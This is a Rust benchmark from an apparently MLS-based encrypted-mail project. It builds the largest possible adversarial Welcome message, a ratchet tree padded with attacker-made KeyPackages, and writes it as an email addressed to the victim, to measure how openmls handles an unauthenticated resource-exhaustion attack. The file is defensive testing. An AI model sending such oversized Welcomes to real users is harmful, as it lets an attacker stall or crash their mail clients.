//! The largest Welcome an attacker holding one of our KeyPackages can send (issue #58):
//! a group of as many members as fit in `MlsConfig::max_welcome_bytes` (4 MiB), every
//! one a KeyPackage of the attacker's own, and the victim's KeyPackage added with
//! them, so that the Welcome's ratchet tree is as large as the receiver takes. openmls
//! reads that tree before anyone is authenticated (its processing grew faster than
//! the tree: 100,000 leaves took 247 s).
//!
//! `cargo bench --bench adversarial_welcome -- KEYPACKAGE.eml OUT.eml bytes:N` writes
//! the Welcome mail (From the attacker, To the KeyPackage's address) of as many members
//! as fit in an MLSMessage of N bytes (`members:N`: to a group of N members, the
//! attacker and the victim among them), and prints its member count and size; `benches/adversarial/run.sh` makes one at the
//! 4 MiB limit and one at the 2,000-member limit and opens both.

use std::time::Instant;

use mailseal::mls::wire;
use openmls::prelude::tls_codec::Serialize as _;
use openmls::prelude::*;
use openmls_basic_credential::SignatureKeyPair;
use openmls_rust_crypto::OpenMlsRustCrypto;

const SUITE: Ciphersuite = Ciphersuite::MLS_128_DHKEMX25519_AES128GCM_SHA256_Ed25519;

/// A member of the attacker's: a KeyPackage under a fresh signature key (leaves must
/// have distinct keys), its identity a short name.
fn member(provider: &OpenMlsRustCrypto, n: usize) -> KeyPackage {
    let signer = SignatureKeyPair::new(SUITE.signature_algorithm()).unwrap();
    let credential = CredentialWithKey {
        credential: BasicCredential::new(format!("m{n}").into_bytes()).into(),
        signature_key: signer.public().into(),
    };
    KeyPackage::builder()
        .build(SUITE, provider, &signer, credential)
        .unwrap()
        .key_package()
        .clone()
}

/// The TLS-serialized Welcome adding `victim` with `members` to a group of the
/// attacker's.
fn welcome(provider: &OpenMlsRustCrypto, victim: &KeyPackage, members: &[KeyPackage]) -> Vec<u8> {
    let signer = SignatureKeyPair::new(SUITE.signature_algorithm()).unwrap();
    signer.store(provider.storage()).unwrap();
    let credential = CredentialWithKey {
        credential: BasicCredential::new(b"mallory@x.example".to_vec()).into(),
        signature_key: signer.public().into(),
    };
    let config = MlsGroupCreateConfig::builder()
        .ciphersuite(SUITE)
        .use_ratchet_tree_extension(true)
        .build();
    let mut group = MlsGroup::new(provider, &signer, &config, credential).unwrap();
    let mut all = members.to_vec();
    all.push(victim.clone());
    let (_, welcome, _) = group.add_members(provider, &signer, &all).unwrap();
    welcome.tls_serialize_detached().unwrap()
}

fn main() {
    let args: Vec<String> = std::env::args()
        .skip(1)
        .filter(|a| !a.starts_with("--"))
        .collect();
    let [key_package, out, size] = args.as_slice() else {
        eprintln!("usage: adversarial_welcome KEYPACKAGE.eml OUT.eml bytes:N|members:N");
        return;
    };
    let provider = OpenMlsRustCrypto::default();
    let mail = wire::read_mail(
        &std::fs::read(key_package).expect("the KeyPackage mail"),
        &Default::default(),
    )
    .expect("a message/mls mail");
    let victim = match wire::decode(&mail.message)
        .expect("an MLSMessage")
        .extract()
    {
        MlsMessageBodyIn::KeyPackage(kp) => kp
            .validate(provider.crypto(), ProtocolVersion::Mls10)
            .expect("a valid KeyPackage"),
        _ => panic!("not a KeyPackage"),
    };
    let to = mail
        .headers
        .from
        .as_ref()
        .map(|m| m.normalized())
        .expect("the KeyPackage mail's From");
    let started = Instant::now();
    let (bytes, count) = match size.split_once(':') {
        Some(("members", n)) => {
            // The attacker and the victim are two of them.
            let count = n.parse::<usize>().expect("members:N") - 2;
            let members: Vec<KeyPackage> = (0..count).map(|n| member(&provider, n)).collect();
            (welcome(&provider, &victim, &members), count)
        }
        Some(("bytes", n)) => {
            let limit: usize = n.parse().expect("bytes:N");
            // The size of a leaf, from a small group; then as many members as fit.
            let sample: Vec<KeyPackage> = (0..200).map(|n| member(&provider, n)).collect();
            let small = welcome(&provider, &victim, &sample[..100]).len();
            let larger = welcome(&provider, &victim, &sample).len();
            let per_member = (larger - small) as f64 / 100.0;
            let mut count = ((limit - larger) as f64 / per_member) as usize + 200;
            let mut members = sample;
            loop {
                while members.len() < count {
                    let n = members.len();
                    members.push(member(&provider, n));
                }
                let bytes = welcome(&provider, &victim, &members[..count]);
                if bytes.len() <= limit {
                    break (bytes, count);
                }
                count -= (bytes.len() - limit) / per_member as usize + 1;
            }
        }
        _ => panic!("bytes:N or members:N"),
    };
    let mut text = format!(
        "From: <mallory@x.example>\r\nTo: <{to}>\r\nDate: Tue, 01 Dec 2026 12:00:00 +0000\r\n\
Message-ID: <welcome-{count}@x.example>\r\nMIME-Version: 1.0\r\nContent-Type: {}\r\n\
Content-Transfer-Encoding: base64\r\n\r\n",
        wire::CONTENT_TYPE
    )
    .into_bytes();
    use base64::Engine as _;
    let b64 = base64::engine::general_purpose::STANDARD.encode(&bytes);
    for line in b64.as_bytes().chunks(76) {
        text.extend_from_slice(line);
        text.extend_from_slice(b"\r\n");
    }
    std::fs::write(out, &text).expect("writing the Welcome mail");
    println!(
        "{out}: a Welcome of {} bytes to a group of {} members (the attacker, {count} of theirs, the victim), made in {:.1} s",
        bytes.len(),
        count + 2,
        started.elapsed().as_secs_f64()
    );
}
